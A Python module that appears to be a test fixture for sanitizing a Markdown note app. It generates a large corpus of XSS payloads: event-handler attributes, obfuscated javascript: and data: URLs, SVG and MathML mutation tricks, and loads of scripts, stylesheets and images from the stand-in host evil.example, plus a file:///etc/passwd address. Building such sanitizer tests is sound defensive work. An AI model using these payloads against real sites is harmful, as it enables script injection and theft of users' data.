"""Hostile versions of all that people write in notes: handlers, disguised addresses, markup.

In: nothing. Out: lines of Markdown. What they try calls `alert`, or asks for `evil.example`.
"""

from __future__ import annotations

ATTRIBUTES = (
    "onclick=alert(1)",
    'OnClick="alert(1)"',
    "onerror='alert(1)'",
    "onmouseover\n=\nalert(1)",
    'style="background:url(https://evil.example/a.png)"',
    "style='x:expression(alert(1))'",
    'srcdoc="<script>alert(1)</script>"',
    "formaction=javascript:alert(1)",
    "action=https://evil.example/",
    "autofocus onfocus=alert(1) tabindex=0",
    "srcset='https://evil.example/a.png 2x'",
    "background=https://evil.example/a.png",
    "ping=https://evil.example/",
    "xlink:href=javascript:alert(1)",
    "poster=https://evil.example/a.png",
    "http-equiv=refresh content='0;url=https://evil.example/'",
    "/onclick=alert(1)",
    "class=x/onclick=alert(1)",
    "title='x'onclick=alert(1)",
    "title=\"x' onclick='alert(1)\"",
    "&#111;nclick=alert(1)",
)
"""What acts, or asks for something, on whatever tag it stands."""
TAGS = (
    *("a", "b", "br", "kbd", "sub", "sup", "mark", "small", "details", "summary", "img", "div"),
    *("p", "center", "span", "font", "u", "figure", "section", "KBD", "Img"),
)
"""The tags that are read."""
FOREIGN = (
    "<script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/a.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'/></svg>",
    "<svg><style>@import 'https://evil.example/a.css';</style></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe> <embed src=https://evil.example/>",
    "<object data=https://evil.example/></object> <applet code=x></applet>",
    "<base href=https://evil.example/> <link rel=stylesheet href=https://evil.example/a.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<style>body{background:url(https://evil.example/a.png)}</style>",
    "<form action=https://evil.example/><button formaction=javascript:alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1)> <select autofocus onfocus=alert(1)></select>",
    "<video src=https://evil.example/a.mp4 onerror=alert(1)></video>",
    "<audio src=https://evil.example/a.mp3 onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee> <body onload=alert(1)> <html onclick=alert(1)>",
    "<template><script>alert(1)</script></template> <noscript><p title='</noscript><script>'>",
    "<title></title><script>alert(1)</script> <textarea></textarea><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]> <?xml-stylesheet href='https://evil.example/'?>",
    "<!doctype html><script>alert(1)</script> <!ENTITY x 'y'>",
    "<a href='x' <script>alert(1)</script>> <kbd<script>alert(1)</script>",
    "<details open ontoggle=alert(1)>\n<summary onclick=alert(1)>x</summary>\n</details>",
    "<details>\n<summary><img src=x onerror=alert(1)></summary>\n<script>alert(1)</script>",
    "<div><kbd><sub></div></kbd><script>alert(1)</script></sub>",
    "<kbd><b></kbd><img src=x onerror=alert(1)></b>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;img src=x onerror=alert(1)&#x3e;",
    "\x00<script>alert(1)</script> <\x00script>alert(1)</script> <script\x0c>alert(1)</script>",
)
"""Tags that are read by nobody."""
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java&#115;cript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "&#1;javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#x6A&#x61&#x76&#x61script:alert(1)",
    "%6aavascript:alert(1)",
    "vbscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "//evil.example/a.png",
    "\\\\evil.example\\a.png",
    "/\\evil.example/a.png",
    "blob:https://evil.example/x",
    "file:///etc/passwd",
    "x' onclick='alert(1)",
    'x" onclick="alert(1)',
)
"""Where no link and no picture may lead."""
MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '" onclick="alert(1)',
    "</p><svg onload=alert(1)>",
)
"""What is put where words belong."""
CONSTRUCTS = (
    *("=={}==", ":{}:", "Field{}:: {}", "a [field:: {}] (b:: {})", "{}:: x", "#tag/{}", "x ^{}"),
    *("[[{}]]", "[[x|{}]]", "[[x#{}]]", "[[#{}]]", "![[{}]]", "![[x.png|{}]]", "![[{}.png|300]]"),
    *(
        "![[{}.mp3]]",
        "![[a.mp4|{}]]",
        "![[x#^{}]]",
        "![{}](x.png)",
        "![x|{}](x.png '{}')",
        "[{}](x.md '{}')",
    ),
    *(
        "$\\text{{{}}}$",
        "$\\href{{{}}}{{x}}$",
        "$$\n{}\n$$",
        "$\\style{{{}}}{{x}}$",
        "$\\unicode{{{}}}$",
    ),
    *(
        '```mermaid\nclick A "{}"\n```',
        "```dataview {}\n{}\n```",
        "```{}\n{}\n```",
        "`{}`",
        "    {}",
    ),
    *("<% {} %>", "{{{{ {} }}}} {{% {} %}}", "- [{}] x", "- [/] {}", "- [x] {}", "# {}", "{}\n==="),
    *(
        "> [!{}] x",
        "> [!tip] {}",
        "> {}",
        "| {} | x |\n|---|---|\n| {} | {} | {} |",
        "x[^1]\n\n[^1]: {}",
    ),
    *(
        "[^{}]: {}",
        "x^[{}]",
        "https://example.org/{}",
        "www.example.org/{}",
        "<https://example.org/{}>",
    ),
    *(
        "<details><summary>{}</summary>{}</details>",
        "<kbd>{}</kbd>",
        "<a href='x.md'>{}</a>",
        "&{};",
    ),
    *("<img src=x.png alt='{}'>", "<img src='x.png' title=\"{}\">", "[x]: {}\n\n[x]", "{}<br>{}"),
)
"""What people write, with a place for what does not belong there."""


def hostile_notes() -> tuple[str, ...]:
    """Every construct with everything in it that is hostile, each apart from the others."""
    return (
        *FOREIGN,
        *(f"<{tag} {attribute}>x</{tag}>" for tag in TAGS for attribute in ATTRIBUTES),
        *(f"<img src=x.png {attribute}>" for attribute in ATTRIBUTES),
        *(f"<a href=x.md {attribute}>x</a>" for attribute in ATTRIBUTES),
        *(
            form.format(address)
            for form in (
                '<a href="{}">x</a>',
                "<a href='{}'>x</a>",
                '<img src="{}" alt=x>',
                "[x](<{}>)",
                "![x](<{}>)",
                "[x]({})",
                "[[{}]]",
                "![[{}]]",
                "<{}>",
                "![x]({})",
            )
            for address in ADDRESSES
        ),
        *(
            form.replace("{{", "{").replace("}}", "}").replace("{}", markup)
            for form in CONSTRUCTS
            for markup in MARKUP
        ),
    )
